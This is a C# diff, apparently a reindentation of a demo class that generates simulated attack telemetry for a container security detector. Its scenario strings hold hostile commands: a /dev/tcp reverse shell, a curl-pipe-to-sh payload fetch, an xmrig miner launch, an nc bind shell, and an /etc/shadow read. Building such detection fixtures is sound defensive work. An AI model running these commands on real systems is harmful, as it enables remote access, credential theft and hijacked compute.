@@ -199,51 +199,51 @@ internal sealed class DemoScenario
         switch (name)
         {
             case "reverse_shell":
-            {
-                // Exploited nginx module spawns a shell that calls home.
-                var pod = Storefront[0];
-                var shell = Proc(31337, 1001, 101, Sh, "sh -c 'sh -i >& /dev/tcp/203.0.113.66/4444 0>&1'", Nginx);
-                Add(Ev(EventKind.ProcessExec, pod, now, shell, label));
-                Add(Ev(EventKind.Syscall, pod, now, shell, label) with { SyscallName = "dup2", ReturnCode = 0 });
-                Add(Ev(EventKind.NetConnect, pod, now, shell, label) with { Net = new NetInfo("tcp", "10.244.1.15", 51515, "203.0.113.66", 4444, 0, 0) });
-                break;
-            }
+                {
+                    // Exploited nginx module spawns a shell that calls home.
+                    var pod = Storefront[0];
+                    var shell = Proc(31337, 1001, 101, Sh, "sh -c 'sh -i >& /dev/tcp/203.0.113.66/4444 0>&1'", Nginx);
+                    Add(Ev(EventKind.ProcessExec, pod, now, shell, label));
+                    Add(Ev(EventKind.Syscall, pod, now, shell, label) with { SyscallName = "dup2", ReturnCode = 0 });
+                    Add(Ev(EventKind.NetConnect, pod, now, shell, label) with { Net = new NetInfo("tcp", "10.244.1.15", 51515, "203.0.113.66", 4444, 0, 0) });
+                    break;
+                }
 
             case "shadow_read":
-            {
-                // SQL injection turned into COPY ... FROM '/etc/shadow' by the database server itself.
-                var backend = Proc(215, 1, 999, Postgres, "postgres: app shop 10.244.1.15(40122) COPY", Postgres);
-                Add(Ev(EventKind.FileOpen, Db, now, backend, label) with { FilePath = "/etc/shadow", FileFlags = "O_RDONLY" });
-                break;
-            }
+                {
+                    // SQL injection turned into COPY ... FROM '/etc/shadow' by the database server itself.
+                    var backend = Proc(215, 1, 999, Postgres, "postgres: app shop 10.244.1.15(40122) COPY", Postgres);
+                    Add(Ev(EventKind.FileOpen, Db, now, backend, label) with { FilePath = "/etc/shadow", FileFlags = "O_RDONLY" });
+                    break;
+                }
 
             case "cryptominer":
-            {
-                var shell = Proc(88, 7, 1000, Sh, "sh -c 'curl -s http://198.51.100.23/x | sh'", Python);
-                var miner = Proc(89, 88, 1000, "/tmp/.cache/xmrig", "/tmp/.cache/xmrig -o pool.supportxmr.com:3333 --donate-level 0", Sh);
-                Add(Ev(EventKind.ProcessExec, Batch, now, shell, label));
-                Add(Ev(EventKind.ProcessExec, Batch, now, miner, label));
-                Add(Ev(EventKind.DnsQuery, Batch, now, miner, label) with { DnsName = "pool.supportxmr.com", Net = new NetInfo("udp", null, -1, "10.96.0.10", 53, 0, 0) });
-                Add(Ev(EventKind.NetConnect, Batch, now, miner, label) with { Net = new NetInfo("tcp", "10.244.2.31", 41234, "198.51.100.23", 3333, 0, 0) });
-                Add(Ev(EventKind.ResourceUsage, Batch, now, ProcessInfo.None, label) with { Resource = new ResourceSample(1.97, 310L * 1048576, 0, 0) });
-                break;
-            }
+                {
+                    var shell = Proc(88, 7, 1000, Sh, "sh -c 'curl -s http://198.51.100.23/x | sh'", Python);
+                    var miner = Proc(89, 88, 1000, "/tmp/.cache/xmrig", "/tmp/.cache/xmrig -o pool.supportxmr.com:3333 --donate-level 0", Sh);
+                    Add(Ev(EventKind.ProcessExec, Batch, now, shell, label));
+                    Add(Ev(EventKind.ProcessExec, Batch, now, miner, label));
+                    Add(Ev(EventKind.DnsQuery, Batch, now, miner, label) with { DnsName = "pool.supportxmr.com", Net = new NetInfo("udp", null, -1, "10.96.0.10", 53, 0, 0) });
+                    Add(Ev(EventKind.NetConnect, Batch, now, miner, label) with { Net = new NetInfo("tcp", "10.244.2.31", 41234, "198.51.100.23", 3333, 0, 0) });
+                    Add(Ev(EventKind.ResourceUsage, Batch, now, ProcessInfo.None, label) with { Resource = new ResourceSample(1.97, 310L * 1048576, 0, 0) });
+                    break;
+                }
 
             case "exfil_new_host":
-            {
-                var backend = Proc(216, 1, 999, Postgres, "postgres: app shop 10.244.1.15(40123) SELECT", Postgres);
-                Add(Ev(EventKind.NetConnect, Db, now, backend, label) with { Net = new NetInfo("tcp", "10.244.1.20", 45001, "192.0.2.77", 443, 1200, 48_000_000) });
-                break;
-            }
+                {
+                    var backend = Proc(216, 1, 999, Postgres, "postgres: app shop 10.244.1.15(40123) SELECT", Postgres);
+                    Add(Ev(EventKind.NetConnect, Db, now, backend, label) with { Net = new NetInfo("tcp", "10.244.1.20", 45001, "192.0.2.77", 443, 1200, 48_000_000) });
+                    break;
+                }
 
             case "bind_shell":
-            {
-                var pod = Storefront[1];
-                var nc = Proc(4242, 1002, 101, "/usr/bin/nc", "nc -lvp 4444 -e /bin/sh", Nginx);
-                Add(Ev(EventKind.ProcessExec, pod, now, nc, label));
-                Add(Ev(EventKind.NetListen, pod, now, nc, label) with { Net = new NetInfo("tcp", "0.0.0.0", 4444, null, -1, 0, 0) });
-                break;
-            }
+                {
+                    var pod = Storefront[1];
+                    var nc = Proc(4242, 1002, 101, "/usr/bin/nc", "nc -lvp 4444 -e /bin/sh", Nginx);
+                    Add(Ev(EventKind.ProcessExec, pod, now, nc, label));
+                    Add(Ev(EventKind.NetListen, pod, now, nc, label) with { Net = new NetInfo("tcp", "0.0.0.0", 4444, null, -1, 0, 0) });
+                    break;
+                }
 
             default:
                 throw new ArgumentOutOfRangeException(nameof(name), name, "unknown attack");
